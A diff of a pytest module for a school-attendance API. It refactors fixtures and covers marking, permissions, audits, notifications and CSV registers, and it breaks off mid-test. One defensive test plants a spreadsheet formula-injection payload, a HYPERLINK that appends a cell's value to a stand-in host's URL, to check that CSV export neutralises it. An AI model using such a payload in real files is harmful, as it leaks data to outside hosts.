@@ -29,65 +29,17 @@ from apps.core import buffer
 from apps.core.access import scope_queryset
 from apps.core.models import AuditLog
 
-from .conftest import flush_here
-
-MARK = "/api/v1/attendance/mark/"
-LIST = "/api/v1/attendance/"
+from .factories import LIST, AttendanceRecordFactory, as_db, db_marks, entry, flush_here, mark
 
 pytestmark = pytest.mark.django_db
 
 
-def mark(api, user, section, date, entries, period=None):
-    return api(user).post(
-        MARK,
-        {
-            "section": str(section.pk),
-            "date": date.isoformat(),
-            "period": str(period.pk) if period else None,
-            "entries": entries,
-        },
-        format="json",
-    )
-
-
-def entry(student, status="present", **extra):
-    return {"student": str(student.pk), "status": status, **extra}
-
-
-def db_marks(**flt) -> dict:
-    return {
-        (str(r.student_id), r.date, str(r.period_id) if r.period_id else None): (
-            r.status,
-            r.late_minutes,
-            r.reason,
-            r.remarks,
-            r.ts,
-            str(r.id),
-        )
-        for r in AttendanceRecord.objects.filter(**flt)
-    }
-
-
-def as_db(marks: list[dict]) -> dict:
-    return {
-        (m["student"], dt.date.fromisoformat(m["date"]), m["period"]): (
-            m["status"],
-            m["late_minutes"],
-            m["reason"],
-            m["remarks"],
-            m["ts"],
-            m["id"],
-        )
-        for m in marks
-    }
-
-
 # --- marking, read-your-writes, last write wins, flush ------------------------------------------
-def test_mark_read_before_flush_last_write_wins_then_flush(cast, att, api):
+def test_mark_read_before_flush_last_write_wins_then_flush(cast, school_year, att, api):
     r = mark(
         api,
         cast.teacher.user,
-        att.sec_a,
+        school_year.sec_a,
         att.day,
         [
             entry(cast.student, "late", late_minutes=10, remarks="bus"),
@@ -96,7 +48,7 @@ def test_mark_read_before_flush_last_write_wins_then_flush(cast, att, api):
     )
     assert r.status_code == 200, r.content
     body = r.json()
-    assert body["section"] == str(att.sec_a.pk) and body["period"] is None
+    assert body["section"] == str(school_year.sec_a.pk) and body["period"] is None
     assert [
         (m["student_name"], m["roll_number"], m["status"], m["late_minutes"], m["reason"])
         for m in body["marks"]
@@ -107,7 +59,7 @@ def test_mark_read_before_flush_last_write_wins_then_flush(cast, att, api):
     assert not AttendanceRecord.objects.exists()  # buffered, not written yet
 
     # Read-your-writes: the register shows the marks before any flush.
-    listed = api(cast.admin).get(LIST, {"section": att.sec_a.pk, "date": att.day}).json()
+    listed = api(cast.admin).get(LIST, {"section": school_year.sec_a.pk, "date": att.day}).json()
     assert listed["count"] == 2
     assert [(m["student"], m["status"], m["pending"]) for m in listed["results"]] == [
         (str(cast.student.pk), "late", True),
@@ -115,52 +67,66 @@ def test_mark_read_before_flush_last_write_wins_then_flush(cast, att, api):
     ]
 
     # The last write per student and day wins.
-    r = mark(api, cast.admin, att.sec_a, att.day, [entry(cast.student, "present")])
+    r = mark(api, cast.admin, school_year.sec_a, att.day, [entry(cast.student, "present")])
     assert r.status_code == 200, r.content
     marks = {m["student"]: m for m in r.json()["marks"]}
     assert marks[str(cast.student.pk)]["status"] == "present"
     assert marks[str(cast.student.pk)]["late_minutes"] == 0
     assert marks[str(cast.student.pk)]["marked_by"] == str(cast.admin.pk)
     assert (
-        len(buffer.pending(KIND, school_id=cast.school.pk, section_id=att.sec_a.pk, date=att.day))
+        len(
+            buffer.pending(
+                KIND, school_id=cast.school.pk, section_id=school_year.sec_a.pk, date=att.day
+            )
+        )
         == 2
     )
 
     assert flush_here() == 2
     assert db_marks() == as_db(r.json()["marks"])
-    listed = api(cast.admin).get(LIST, {"section": att.sec_a.pk, "date": att.day}).json()
+    listed = api(cast.admin).get(LIST, {"section": school_year.sec_a.pk, "date": att.day}).json()
     assert [m["pending"] for m in listed["results"]] == [False, False]
     assert as_db(listed["results"]) == db_marks()
     assert flush_here() == 0
 
 
-def test_period_marks_are_separate_from_the_daily_register(cast, att, api):
+def test_period_marks_are_separate_from_the_daily_register(cast, school_year, att, api):
     assert (
-        mark(api, cast.teacher.user, att.sec_a, att.day, [entry(cast.student)]).status_code == 200
+        mark(api, cast.teacher.user, school_year.sec_a, att.day, [entry(cast.student)]).status_code
+        == 200
     )
     r = mark(
-        api, cast.teacher.user, att.sec_a, att.day, [entry(cast.student, "absent")], period=att.p1
+        api,
+        cast.teacher.user,
+        school_year.sec_a,
+        att.day,
+        [entry(cast.student, "absent")],
+        period=att.p1,
     )
     assert r.status_code == 200, r.content
     assert [(m["period"], m["status"]) for m in r.json()["marks"]] == [(str(att.p1.pk), "absent")]
     r = mark(
         api,
-        att.vera.user,
-        att.sec_a,
+        cast.colleague.user,
+        school_year.sec_a,
         att.day,
         [entry(cast.student, "late", late_minutes=5)],
         period=att.p2,
     )
     assert r.status_code == 200, r.content
-    all_marks = api(cast.admin).get(LIST, {"section": att.sec_a.pk, "date": att.day}).json()
+    all_marks = api(cast.admin).get(LIST, {"section": school_year.sec_a.pk, "date": att.day}).json()
     assert [(m["period"], m["status"]) for m in all_marks["results"]] == [
         (None, "present"),
         (str(att.p1.pk), "absent"),
         (str(att.p2.pk), "late"),
     ]
-    daily = api(cast.admin).get(LIST, {"section": att.sec_a.pk, "date": att.day, "period": "daily"})
+    daily = api(cast.admin).get(
+        LIST, {"section": school_year.sec_a.pk, "date": att.day, "period": "daily"}
+    )
     assert [m["status"] for m in daily.json()["results"]] == ["present"]
-    one = api(cast.admin).get(LIST, {"section": att.sec_a.pk, "date": att.day, "period": att.p2.pk})
+    one = api(cast.admin).get(
+        LIST, {"section": school_year.sec_a.pk, "date": att.day, "period": att.p2.pk}
+    )
     assert [m["status"] for m in one.json()["results"]] == ["late"]
     flush_here()
     assert AttendanceRecord.objects.count() == 3
@@ -184,21 +150,21 @@ def _holiday(cast, date):
 REFUSALS = {
     # name: (how to build the request, status, code, fields)
     "not_enrolled": (
-        lambda c, a: dict(section=a.sec_a, date=a.day, entries=[entry(c.sibling)]),
+        lambda c, y, a: dict(section=y.sec_a, date=a.day, entries=[entry(c.sibling)]),
         400,
         "invalid_entries",
         {"entries": [{"student": ["This student is not enrolled in the section."]}]},
     ),
     "duplicate": (
-        lambda c, a: dict(
-            section=a.sec_a, date=a.day, entries=[entry(c.student), entry(c.student, "absent")]
+        lambda c, y, a: dict(
+            section=y.sec_a, date=a.day, entries=[entry(c.student), entry(c.student, "absent")]
         ),
         400,
         "invalid_entries",
         {"entries": [{}, {"student": ["This student is listed more than once."]}]},
     ),
     "late_without_minutes": (
-        lambda c, a: dict(section=a.sec_a, date=a.day, entries=[entry(c.student, "late")]),
+        lambda c, y, a: dict(section=y.sec_a, date=a.day, entries=[entry(c.student, "late")]),
         400,
         "invalid_entries",
         {
@@ -208,31 +174,31 @@ REFUSALS = {
         },
     ),
     "minutes_without_late": (
-        lambda c, a: dict(
-            section=a.sec_a, date=a.day, entries=[entry(c.student, "present", late_minutes=3)]
+        lambda c, y, a: dict(
+            section=y.sec_a, date=a.day, entries=[entry(c.student, "present", late_minutes=3)]
         ),
         400,
         "invalid_entries",
         {"entries": [{"late_minutes": ["Only a late mark has late minutes."]}]},
     ),
     "excused_without_reason": (
-        lambda c, a: dict(section=a.sec_a, date=a.day, entries=[entry(c.student, "excused")]),
+        lambda c, y, a: dict(section=y.sec_a, date=a.day, entries=[entry(c.student, "excused")]),
         400,
         "invalid_entries",
         {"entries": [{"reason": ["An excused absence needs a reason."]}]},
     ),
     "future": (
-        lambda c, a: dict(
-            section=a.sec_a, date=a.today + dt.timedelta(days=1), entries=[entry(c.student)]
+        lambda c, y, a: dict(
+            section=y.sec_a, date=a.today + dt.timedelta(days=1), entries=[entry(c.student)]
         ),
         400,
         "future_date",
         {"date": ["Attendance cannot be taken for a future date."]},
     ),
     "outside_year": (
-        lambda c, a: dict(
-            section=a.sec_a,
-            date=a.year.start_date - dt.timedelta(days=1),
+        lambda c, y, a: dict(
+            section=y.sec_a,
+            date=y.year.start_date - dt.timedelta(days=1),
             entries=[entry(c.student)],
         ),
         400,
@@ -240,23 +206,23 @@ REFUSALS = {
         None,
     ),
     "holiday": (
-        lambda c, a: (
+        lambda c, y, a: (
             _holiday(c, a.day),
-            dict(section=a.sec_a, date=a.day, entries=[entry(c.student)]),
+            dict(section=y.sec_a, date=a.day, entries=[entry(c.student)]),
         )[1],
         400,
         "holiday",
         None,
     ),
     "period_of_another_section": (
-        lambda c, a: dict(section=a.sec_b, date=a.day, period=a.p1, entries=[entry(c.sibling)]),
+        lambda c, y, a: dict(section=y.sec_b, date=a.day, period=a.p1, entries=[entry(c.sibling)]),
         400,
         "period_not_in_section",
         None,
     ),
     "period_weekday_mismatch": (
-        lambda c, a: dict(
-            section=a.sec_a,
+        lambda c, y, a: dict(
+            section=y.sec_a,
             date=a.day - dt.timedelta(days=1),
             period=a.p1,
             entries=[entry(c.student)],
@@ -266,7 +232,7 @@ REFUSALS = {
         None,
     ),
     "no_entries": (
-        lambda c, a: dict(section=a.sec_a, date=a.day, entries=[]),
+        lambda c, y, a: dict(section=y.sec_a, date=a.day, entries=[]),
         400,
         "validation_error",
         None,
@@ -275,9 +241,9 @@ REFUSALS = {
 
 
 @pytest.mark.parametrize("case", sorted(REFUSALS))
-def test_refusals_are_400_with_field_errors_and_write_nothing(cast, att, api, case):
+def test_refusals_are_400_with_field_errors_and_write_nothing(cast, school_year, att, api, case):
     build, status, code, fields = REFUSALS[case]
-    request = build(cast, att)
+    request = build(cast, school_year, att)
     r = mark(api, cast.admin, **request)
     assert r.status_code == status, r.content
     error = r.json()["error"]
@@ -299,53 +265,81 @@ def test_refusals_are_400_with_field_errors_and_write_nothing(cast, att, api, ca
     assert not AttendanceRecord.objects.exists()
 
 
-def test_teachers_mark_only_their_own_registers(cast, att, api):
+def test_teachers_mark_only_their_own_registers(cast, school_year, att, api):
     # Tara is class teacher of 5-A, not 5-B; she teaches period 1 of 5-A, not period 2.
-    r = mark(api, cast.teacher.user, att.sec_b, att.day, [entry(cast.sibling)])
+    r = mark(api, cast.teacher.user, school_year.sec_b, att.day, [entry(cast.sibling)])
     assert r.status_code == 403
     assert r.json()["error"]["code"] == "not_class_teacher"
     assert set(r.json()["error"]["fields"]) == {"section"}
-    r = mark(api, cast.teacher.user, att.sec_a, att.day, [entry(cast.student)], period=att.p2)
+    r = mark(
+        api, cast.teacher.user, school_year.sec_a, att.day, [entry(cast.student)], period=att.p2
+    )
     assert r.status_code == 403
     assert r.json()["error"]["fields"].keys() == {"period"}
-    # Vera teaches period 2 of 5-A but is not its class teacher.
-    assert mark(api, att.vera.user, att.sec_a, att.day, [entry(cast.student)]).status_code == 403
+    # Cole teaches period 2 of 5-A but is not its class teacher.
     assert (
         mark(
-            api, att.vera.user, att.sec_a, att.day, [entry(cast.student)], period=att.p2
+            api, cast.colleague.user, school_year.sec_a, att.day, [entry(cast.student)]
+        ).status_code
+        == 403
+    )
+    assert (
+        mark(
+            api,
+            cast.colleague.user,
+            school_year.sec_a,
+            att.day,
+            [entry(cast.student)],
+            period=att.p2,
         ).status_code
         == 200
     )
-    assert mark(api, att.vera.user, att.sec_b, att.day, [entry(cast.sibling)]).status_code == 200
+    assert (
+        mark(
+            api, school_year.vera.user, school_year.sec_b, att.day, [entry(cast.sibling)]
+        ).status_code
+        == 200
+    )
     # Students and parents cannot mark at all; another school's section is not found.
     assert (
-        mark(api, cast.student.user, att.sec_a, att.day, [entry(cast.student)]).status_code == 403
+        mark(api, cast.student.user, school_year.sec_a, att.day, [entry(cast.student)]).status_code
+        == 403
     )
-    assert mark(api, cast.parent, att.sec_a, att.day, [entry(cast.student)]).status_code == 403
-    r = mark(api, cast.admin2, att.sec_a, att.day, [entry(cast.student)])
+    assert (
+        mark(api, cast.parent, school_year.sec_a, att.day, [entry(cast.student)]).status_code == 403
+    )
+    r = mark(api, cast.admin2, school_year.sec_a, att.day, [entry(cast.student)])
     assert r.status_code == 400 and r.json()["error"]["fields"]["section"]
 
 
 # --- edit window and audit ----------------------------------------------------------------------
-def test_edit_window_teacher_refused_admin_allowed_and_audited(cast, att, api):
+def test_edit_window_teacher_refused_admin_allowed_and_audited(cast, school_year, att, api):
     teacher = cast.teacher.user
     # Taking a register late is allowed; changing it after the window is not (for teachers).
-    r = mark(api, teacher, att.sec_a, att.old_day, [entry(cast.student), entry(cast.other_student)])
+    r = mark(
+        api,
+        teacher,
+        school_year.sec_a,
+        att.old_day,
+        [entry(cast.student), entry(cast.other_student)],
+    )
     assert r.status_code == 200, r.content
     before = as_db(r.json()["marks"])
     flush_here()  # the existing mark is found in Postgres as well as in the buffer
-    r = mark(api, teacher, att.sec_a, att.old_day, [entry(cast.student, "absent")])
+    r = mark(api, teacher, school_year.sec_a, att.old_day, [entry(cast.student, "absent")])
     assert r.status_code == 400
     assert r.json()["error"]["code"] == "edit_window_closed"
     assert r.json()["error"]["fields"]["entries"][0]["student"]
     # Re-sending an unchanged mark is not an edit.
-    assert mark(api, teacher, att.sec_a, att.old_day, [entry(cast.student)]).status_code == 200
+    assert (
+        mark(api, teacher, school_year.sec_a, att.old_day, [entry(cast.student)]).status_code == 200
+    )
     assert not AuditLog.objects.filter(action__startswith="attendance.").exists()
 
     r = mark(
         api,
         cast.admin,
-        att.sec_a,
+        school_year.sec_a,
         att.old_day,
         [entry(cast.student, "excused", reason="Doctor's note"), entry(cast.other_student)],
     )
@@ -371,10 +365,12 @@ def test_edit_window_teacher_refused_admin_allowed_and_audited(cast, att, api):
     )
 
 
-def test_teacher_edit_within_window_is_allowed_and_audited(cast, att, api):
+def test_teacher_edit_within_window_is_allowed_and_audited(cast, school_year, att, api):
     teacher = cast.teacher.user
-    assert mark(api, teacher, att.sec_a, att.day, [entry(cast.student)]).status_code == 200
-    r = mark(api, teacher, att.sec_a, att.day, [entry(cast.student, "late", late_minutes=7)])
+    assert mark(api, teacher, school_year.sec_a, att.day, [entry(cast.student)]).status_code == 200
+    r = mark(
+        api, teacher, school_year.sec_a, att.day, [entry(cast.student, "late", late_minutes=7)]
+    )
     assert r.status_code == 200, r.content
     log = AuditLog.objects.get(action="attendance.change")
     assert (log.actor, log.before, log.after) == (
@@ -385,14 +381,16 @@ def test_teacher_edit_within_window_is_allowed_and_audited(cast, att, api):
 
 
 # --- notifications ------------------------------------------------------------------------------
-def test_absent_notifies_both_guardians_once(cast, att, api, django_capture_on_commit_callbacks):
+def test_absent_notifies_both_guardians_once(
+    cast, school_year, att, api, django_capture_on_commit_callbacks
+):
     from apps.notifications.models import Notification
 
     with django_capture_on_commit_callbacks(execute=True):
         r = mark(
             api,
             cast.teacher.user,
-            att.sec_a,
+            school_year.sec_a,
             att.day,
             [entry(cast.student, "absent"), entry(cast.other_student, "present")],
         )
@@ -408,10 +406,14 @@ def test_absent_notifies_both_guardians_once(cast, att, api, django_capture_on_c
     # Marked absent again, or present and then absent again: nobody is told twice.
     with django_capture_on_commit_callbacks(execute=True):
         mark(
-            api, cast.teacher.user, att.sec_a, att.day, [entry(cast.student, "absent", remarks="x")]
+            api,
+            cast.teacher.user,
+            school_year.sec_a,
+            att.day,
+            [entry(cast.student, "absent", remarks="x")],
         )
-        mark(api, cast.teacher.user, att.sec_a, att.day, [entry(cast.student, "present")])
-        mark(api, cast.teacher.user, att.sec_a, att.day, [entry(cast.student, "absent")])
+        mark(api, cast.teacher.user, school_year.sec_a, att.day, [entry(cast.student, "present")])
+        mark(api, cast.teacher.user, school_year.sec_a, att.day, [entry(cast.student, "absent")])
     assert Notification.objects.filter(kind="attendance.absent").count() == 2
     assert len(mail.outbox) == 2
 
@@ -420,7 +422,7 @@ def test_absent_notifies_both_guardians_once(cast, att, api, django_capture_on_c
         r = mark(
             api,
             cast.teacher.user,
-            att.sec_a,
+            school_year.sec_a,
             att.day,
             [entry(cast.student, "absent")],
             period=att.p1,
@@ -430,14 +432,16 @@ def test_absent_notifies_both_guardians_once(cast, att, api, django_capture_on_c
     assert len(mail.outbox) == 4
 
 
-def test_no_mail_before_commit(cast, att, api, django_capture_on_commit_callbacks):
+def test_no_mail_before_commit(cast, school_year, att, api, django_capture_on_commit_callbacks):
     with django_capture_on_commit_callbacks(execute=False) as callbacks:
-        mark(api, cast.teacher.user, att.sec_a, att.day, [entry(cast.student, "absent")])
+        mark(api, cast.teacher.user, school_year.sec_a, att.day, [entry(cast.student, "absent")])
     assert callbacks and not mail.outbox
 
 
 # --- Redis down ---------------------------------------------------------------------------------
-def test_redis_unreachable_writes_straight_to_postgres(cast, att, api, settings, caplog):
+def test_redis_unreachable_writes_straight_to_postgres(
+    cast, school_year, att, api, settings, caplog
+):
     with socket.socket() as sock:
         sock.bind(("127.0.0.1", 0))
         port = sock.getsockname()[1]
@@ -447,7 +451,7 @@ def test_redis_unreachable_writes_straight_to_postgres(cast, att, api, settings,
         r = mark(
             api,
             cast.teacher.user,
-            att.sec_a,
+            school_year.sec_a,
             att.day,
             [entry(cast.student, "late", late_minutes=4), entry(cast.other_student)],
         )
@@ -455,20 +459,20 @@ def test_redis_unreachable_writes_straight_to_postgres(cast, att, api, settings,
     assert any("straight to Postgres" in rec.getMessage() for rec in caplog.records)
     assert [m["pending"] for m in r.json()["marks"]] == [False, False]
     assert db_marks() == as_db(r.json()["marks"])
-    listed = api(cast.admin).get(LIST, {"section": att.sec_a.pk, "date": att.day}).json()
+    listed = api(cast.admin).get(LIST, {"section": school_year.sec_a.pk, "date": att.day}).json()
     assert as_db(listed["results"]) == db_marks()
 
 
 # --- summaries, register, not taken -------------------------------------------------------------
 @pytest.fixture
-def month_of_marks(cast, att, api):
+def month_of_marks(cast, school_year, att, api):
     """Sam: present on day, absent on old_day (flushed), late on a third weekday (pending)."""
     third = att.old_day - dt.timedelta(days=7)
     assert (
         mark(
             api,
             cast.admin,
-            att.sec_a,
+            school_year.sec_a,
             att.old_day,
             [entry(cast.student, "absent"), entry(cast.other_student)],
         ).status_code
@@ -477,7 +481,7 @@ def month_of_marks(cast, att, api):
     flush_here()
     assert (
         mark(
-            api, cast.admin, att.sec_a, third, [entry(cast.student, "late", late_minutes=3)]
+            api, cast.admin, school_year.sec_a, third, [entry(cast.student, "late", late_minutes=3)]
         ).status_code
         == 200
     )
@@ -485,7 +489,7 @@ def month_of_marks(cast, att, api):
         mark(
             api,
             cast.admin,
-            att.sec_a,
+            school_year.sec_a,
             att.day,
             [entry(cast.student), entry(cast.other_student, "excused", reason="Wedding")],
         ).status_code
@@ -493,7 +497,12 @@ def month_of_marks(cast, att, api):
     )
     assert (
         mark(
-            api, cast.admin, att.sec_a, att.day, [entry(cast.student, "absent")], period=att.p1
+            api,
+            cast.admin,
+            school_year.sec_a,
+            att.day,
+            [entry(cast.student, "absent")],
+            period=att.p1,
         ).status_code
         == 200
     )
@@ -527,9 +536,9 @@ def test_student_summary(cast, att, api, month_of_marks):
     assert bad.status_code == 400 and set(bad.json()["error"]["fields"]) == {"from", "to"}
 
 
-def test_section_day_summary(cast, att, api, month_of_marks):
+def test_section_day_summary(cast, school_year, att, api, month_of_marks):
     r = api(cast.teacher.user).get(
-        "/api/v1/attendance/section-summary/", {"section": att.sec_a.pk, "date": att.day}
+        "/api/v1/attendance/section-summary/", {"section": school_year.sec_a.pk, "date": att.day}
     )
     assert r.status_code == 200, r.content
     body = r.json()
@@ -544,13 +553,16 @@ def test_section_day_summary(cast, att, api, month_of_marks):
     ]
     assert (
         api(cast.teacher.user)
-        .get("/api/v1/attendance/section-summary/", {"section": att.sec_b.pk, "date": att.day})
+        .get(
+            "/api/v1/attendance/section-summary/",
+            {"section": school_year.sec_b.pk, "date": att.day},
+        )
         .status_code
         == 404
     )  # Tara neither teaches 5-B nor is its class teacher
     assert (
         api(cast.parent)
-        .get("/api/v1/attendance/section-summary/", {"section": att.sec_a.pk})
+        .get("/api/v1/attendance/section-summary/", {"section": school_year.sec_a.pk})
         .status_code
         == 403
     )
@@ -558,13 +570,13 @@ def test_section_day_summary(cast, att, api, month_of_marks):
 
 @pytest.fixture
 def late_march():
-    """Today is Saturday 28 March 2026 (before `att` is made): the day, old_day, the third
+    """Today is Saturday 28 March 2026 (before `school_year` and `att` are made): the day, old_day, the third
     marked day and the holiday of the register test all fall in March, whatever the real date."""
     with time_machine.travel(dt.datetime(2026, 3, 28, 5, 0, tzinfo=dt.UTC), tick=True):
         yield
 
 
-def test_monthly_register_json_and_csv(late_march, cast, att, api, month_of_marks):
+def test_monthly_register_json_and_csv(late_march, cast, school_year, att, api, month_of_marks):
     _holiday_day = att.day - dt.timedelta(days=1)
     from apps.calendar.models import Audience, CalendarEvent, EventKind
 
@@ -573,13 +585,13 @@ def test_monthly_register_json_and_csv(late_march, cast, att, api, month_of_mark
         title="Off",
         kind=EventKind.HOLIDAY,
         audience=Audience.SECTION,
-        section=att.sec_a,
+        section=school_year.sec_a,
         start_date=_holiday_day,
         end_date=_holiday_day,
     )
     month = att.day.strftime("%Y-%m")
     r = api(cast.teacher.user).get(
-        "/api/v1/attendance/register/", {"section": att.sec_a.pk, "month": month}
+        "/api/v1/attendance/register/", {"section": school_year.sec_a.pk, "month": month}
     )
     assert r.status_code == 200, r.content
     body = r.json()
@@ -603,9 +615,9 @@ def test_monthly_register_json_and_csv(late_march, cast, att, api, month_of_mark
     for url, params in (
         (
             "/api/v1/attendance/register/",
-            {"section": att.sec_a.pk, "month": month, "format": "csv"},
+            {"section": school_year.sec_a.pk, "month": month, "format": "csv"},
         ),
-        ("/api/v1/attendance/register.csv", {"section": att.sec_a.pk, "month": month}),
+        ("/api/v1/attendance/register.csv", {"section": school_year.sec_a.pk, "month": month}),
     ):
         r = api(cast.admin).get(url, params)
         assert r.status_code == 200, r.content
@@ -617,18 +629,20 @@ def test_monthly_register_json_and_csv(late_march, cast, att, api, month_of_mark
         assert table[2][:2] == ["1", "Sam Student"]
         assert table[2][2 : 2 + len(days)] == sam["days"]
     assert (
-        api(cast.admin2).get("/api/v1/attendance/register/", {"section": att.sec_a.pk}).status_code
+        api(cast.admin2)
+        .get("/api/v1/attendance/register/", {"section": school_year.sec_a.pk})
+        .status_code
         == 404
     )
 
 
-def test_register_csv_neutralises_formula_cells(cast, att, api):
+def test_register_csv_neutralises_formula_cells(cast, school_year, att, api):
     formula = '=HYPERLINK("https://x.example/?"&A2,"Report")'
     cast.student.user.full_name = formula
     cast.student.user.save()
     month = att.day.strftime("%Y-%m")
     r = api(cast.admin).get(
-        "/api/v1/attendance/register.csv", {"section": att.sec_a.pk, "month": month}
+        "/api/v1/attendance/register.csv", {"section": school_year.sec_a.pk, "month": month}
     )
     assert r.status_code == 200, r.content
     table = list(csv.reader(io.StringIO(r.content.decode())))
@@ -636,7 +650,7 @@ def test_register_csv_neutralises_formula_cells(cast, att, api):
     assert table[3][:2] == ["2", "Oscar Other"]
 
 
-def test_not_taken(cast, att, api):
+def test_not_taken(cast, school_year, att, api):
     url = "/api/v1/attendance/not-taken/"
 
     def not_taken(user=cast.admin, date=att.day):
@@ -646,18 +660,22 @@ def test_not_taken(cast, att, api):
 
     assert not_taken() == ["5-A", "5-B"]
     # A period mark is not the daily register, pending or flushed.
-    period_mark = mark(api, cast.teacher.user, att.sec_a, att.day, [entry(cast.student)], att.p1)
+    period_mark = mark(
+        api, cast.teacher.user, school_year.sec_a, att.day, [entry(cast.student)], att.p1
+    )
     assert period_mark.status_code == 200, period_mark.content
     assert not_taken() == ["5-A", "5-B"]
     assert flush_here() == 1
     assert not_taken() == ["5-A", "5-B"]
 
-    assert mark(api, cast.admin, att.sec_a, att.day, [entry(cast.student)]).status_code == 200
+    assert (
+        mark(api, cast.admin, school_year.sec_a, att.day, [entry(cast.student)]).status_code == 200
+    )
     r = api(cast.admin).get(url, {"date": att.day})  # a pending daily mark counts
     assert [(s["name"], s["class_teacher_name"]) for s in r.json()["results"]] == [
         ("5-B", "Vera Teacher")
     ]
-    mark(api, att.vera.user, att.sec_b, att.day, [entry(cast.sibling)])
+    mark(api, school_year.vera.user, school_year.sec_b, att.day, [entry(cast.sibling)])
     flush_here()
     assert not_taken() == []
     # Teachers see their own sections only; a holiday is no school day.
@@ -670,41 +688,44 @@ def test_not_taken(cast, att, api):
 
 
 # --- scoping ------------------------------------------------------------------------------------
-def test_reads_are_scoped(cast, att, api):
+def test_reads_are_scoped(cast, school_year, att, api):
     mark(
         api,
         cast.admin,
-        att.sec_a,
+        school_year.sec_a,
         att.day,
         [entry(cast.student, "absent"), entry(cast.other_student)],
     )
-    mark(api, cast.admin, att.sec_b, att.day, [entry(cast.sibling, "late", late_minutes=2)])
+    mark(api, cast.admin, school_year.sec_b, att.day, [entry(cast.sibling, "late", late_minutes=2)])
     day = {"date": att.day}
 
     def students(user, **params):
         r = api(user).get(LIST, params)
         return r.status_code, [m["student_name"] for m in r.json().get("results", [])]
 
-    assert students(cast.parent, section=att.sec_a.pk, **day) == (200, ["Sam Student"])
-    assert students(cast.parent, section=att.sec_b.pk, **day) == (200, ["Sia Student"])
+    assert students(cast.parent, section=school_year.sec_a.pk, **day) == (200, ["Sam Student"])
+    assert students(cast.parent, section=school_year.sec_b.pk, **day) == (200, ["Sia Student"])
     assert students(cast.parent, student=cast.sibling.pk, **day) == (200, ["Sia Student"])
     assert students(cast.parent, student=cast.other_student.pk)[0] == 404
     assert students(cast.student.user, **day) == (200, ["Sam Student"])
-    assert students(cast.student.user, section=att.sec_a.pk, **day) == (200, ["Sam Student"])
-    assert students(cast.student.user, section=att.sec_b.pk, **day)[0] == 404
-    assert students(cast.teacher.user, section=att.sec_a.pk, **day) == (
+    assert students(cast.student.user, section=school_year.sec_a.pk, **day) == (
+        200,
+        ["Sam Student"],
+    )
+    assert students(cast.student.user, section=school_year.sec_b.pk, **day)[0] == 404
+    assert students(cast.teacher.user, section=school_year.sec_a.pk, **day) == (
         200,
         ["Sam Student", "Oscar Other"],
     )
-    assert students(cast.teacher.user, section=att.sec_b.pk, **day)[0] == 404
-    assert students(cast.admin2, section=att.sec_a.pk, **day)[0] == 404
+    assert students(cast.teacher.user, section=school_year.sec_b.pk, **day)[0] == 404
+    assert students(cast.admin2, section=school_year.sec_a.pk, **day)[0] == 404
     assert students(cast.admin2, student=cast.student.pk)[0] == 404
-    assert students(cast.accountant.user, section=att.sec_a.pk, **day)[0] == 403
-    r = api(cast.admin).get(LIST, {"section": att.sec_a.pk})
+    assert students(cast.accountant.user, section=school_year.sec_a.pk, **day)[0] == 403
+    r = api(cast.admin).get(LIST, {"section": school_year.sec_a.pk})
     assert r.status_code == 400 and "date" in r.json()["error"]["fields"]
 
 
-def test_a_teacher_reads_only_the_marks_of_sections_they_teach(cast, att, api):
+def test_a_teacher_reads_only_the_marks_of_sections_they_teach(cast, school_year, att, api):
     """Sam moved: last year in 4-B (Vera), earlier this year marked in 5-B (Vera), now in 5-A
     (Tara). Tara teaches Sam now but reads only the 5-A marks."""
     last_year = AcademicYearFactory(
@@ -715,23 +736,21 @@ def test_a_teacher_reads_only_the_marks_of_sections_they_teach(cast, att, api):
     )
     class4 = SchoolClassFactory(school=cast.school, name="Class 4", order=4)
     old_section = SectionFactory(
-        school_class=class4, year=last_year, name="B", class_teacher=att.vera
+        school_class=class4, year=last_year, name="B", class_teacher=school_year.vera
     )
     EnrollmentFactory(section=old_section, student=cast.student, roll_number=7)
     last_year_day = att.today - dt.timedelta(days=150)
-    for section, day in ((old_section, last_year_day), (att.sec_b, att.old_day)):
-        AttendanceRecord.objects.create(
-            id=mark_id(cast.school.pk, cast.student.pk, day, None),
-            school=cast.school,
+    for section, day in ((old_section, last_year_day), (school_year.sec_b, att.old_day)):
+        AttendanceRecordFactory(
             student=cast.student,
             section=section,
             date=day,
             status="absent",
-            marked_by=att.vera.user,
-            ts=1,
+            marked_by=school_year.vera.user,
         )
     assert (
-        mark(api, cast.teacher.user, att.sec_a, att.day, [entry(cast.student)]).status_code == 200
+        mark(api, cast.teacher.user, school_year.sec_a, att.day, [entry(cast.student)]).status_code
+        == 200
     )
     span = {"student": cast.student.pk, "from": last_year_day, "to": att.today}
 
@@ -742,9 +761,9 @@ def test_a_teacher_reads_only_the_marks_of_sections_they_teach(cast, att, api):
 
     seen = read(cast.teacher.user)["results"]
     assert [(m["date"], m["section"], m["status"]) for m in seen] == [
-        (att.day.isoformat(), str(att.sec_a.pk), "present")
+        (att.day.isoformat(), str(school_year.sec_a.pk), "present")
     ]
-    assert read(cast.teacher.user, section=att.sec_b.pk)["results"] == []
+    assert read(cast.teacher.user, section=school_year.sec_b.pk)["results"] == []
     assert read(cast.teacher.user, section=old_section.pk)["results"] == []
     summary = read(cast.teacher.user, "/api/v1/attendance/summary/")
     assert summary["days_marked"] == 1 and summary["counts"]["absent"] == 0
@@ -758,7 +777,7 @@ def test_a_teacher_reads_only_the_marks_of_sections_they_teach(cast, att, api):
         scope_queryset(AttendanceRecord.objects.all(), cast.teacher.user).values_list(
             "section_id", flat=True
         )
-    ) == {att.sec_a.pk}
+    ) == {school_year.sec_a.pk}
 
 
 # --- query counts -------------------------------------------------------------------------------
@@ -768,32 +787,38 @@ def _count_queries(fn) -> int:
     return len(ctx.captured_queries)
 
 
-def test_list_and_register_keep_a_constant_number_of_queries(cast, att, api):
+def test_list_and_register_keep_a_constant_number_of_queries(cast, school_year, att, api):
     month = att.day.strftime("%Y-%m")
     client = api(cast.admin)
-    list_params = {"section": att.sec_a.pk, "date": att.day}
-    register_params = {"section": att.sec_a.pk, "month": month}
+    list_params = {"section": school_year.sec_a.pk, "date": att.day}
+    register_params = {"section": school_year.sec_a.pk, "month": month}
 
     def add_students(n, roll):
         students = [StudentFactory(school=cast.school) for _ in range(n)]
         for i, s in enumerate(students):
-            EnrollmentFactory(section=att.sec_a, student=s, roll_number=roll + i)
+            EnrollmentFactory(section=school_year.sec_a, student=s, roll_number=roll + i)
         return students
 
     first = add_students(3, 10)
-    mark(api, cast.admin, att.sec_a, att.day, [entry(s) for s in first[:2]])
